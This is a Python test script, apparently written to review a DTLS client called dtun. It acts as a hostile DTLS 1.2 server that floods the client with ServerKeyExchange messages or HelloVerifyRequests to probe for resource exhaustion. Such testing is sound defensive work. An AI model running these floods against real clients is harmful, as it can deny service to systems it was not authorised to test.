#!/usr/bin/env python3
"""A hostile DTLS 1.2 server for probing dtun's client (review of issue 21).

Usage: hostile_dtls_server.py MODE PORT SECONDS
  ske-flood  answer the first ClientHello with a ServerHello (GCM, extended master secret),
             then send 64 kB datagrams of ServerKeyExchange messages with the next
             message_seq each, for SECONDS (the client takes every one)
  ske-small  the same in unfragmented 1.4 kB datagrams
  hvr-flood  answer the first ClientHello with HelloVerifyRequests whose cookie alternates,
             as fast as it can, for SECONDS; counts the ClientHellos that come back
Prints one line of counters at the end. Run it only in a network namespace of your own.
"""
import socket, struct, sys, time

def rec(seq, body, ct=22, epoch=0):
    return struct.pack(">BHH", ct, 0xFEFD, epoch) + seq.to_bytes(6, "big") + struct.pack(">H", len(body)) + body

def msg(typ, seq, body):
    n = len(body).to_bytes(3, "big")
    return bytes([typ]) + n + struct.pack(">H", seq) + b"\0\0\0" + n + body

def server_hello(seq):
    b = b"\xfe\xfd" + b"\x07" * 32 + b"\x00" + b"\x00\xa8" + b"\x00" + b"\x00\x04\x00\x17\x00\x00"
    return msg(2, seq, b)

def main():
    mode, port, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind(("0.0.0.0", port))
    data, peer = s.recvfrom(65536)
    s.connect(peer)
    print(f"first datagram from {peer}: {len(data)} bytes {data[:30].hex()}", flush=True)
    s.setblocking(False)
    sent = sent_bytes = got = got_bytes = 0
    end = time.time() + secs
    rseq = 0
    if mode in ("ske-flood", "ske-small"):
        size, hint = (65400, 4000) if mode == "ske-flood" else (1400, 1300)
        s.send(rec(0, server_hello(0))); rseq = 1
        mseq = 1
        while time.time() < end:
            body = b""
            while len(body) + hint + 14 < size:
                m = msg(12, mseq & 0xFFFF, struct.pack(">H", hint) + b"h" * hint)
                body += m; mseq += 1
            try:
                s.send(rec(rseq, body)); sent += 1; sent_bytes += len(body) + 13
            except BlockingIOError:
                time.sleep(0.0005)
            rseq += 1
    elif mode == "hvr-flood":
        i = 0
        while time.time() < end:
            d = rec(rseq, msg(3, 0, b"\xfe\xff\x01" + bytes([i % 2]))); rseq += 1; i += 1
            try:
                s.send(d); sent += 1; sent_bytes += len(d)
            except BlockingIOError:
                pass
            try:
                while True:
                    r = s.recv(65536); got += 1; got_bytes += len(r)
            except (BlockingIOError, ConnectionRefusedError):
                pass
        time.sleep(0.3)
        try:
            while True:
                r = s.recv(65536); got += 1; got_bytes += len(r)
        except (BlockingIOError, ConnectionRefusedError):
            pass
    print(f"mode={mode} sent={sent} sent_bytes={sent_bytes} got={got} got_bytes={got_bytes}", flush=True)

main()
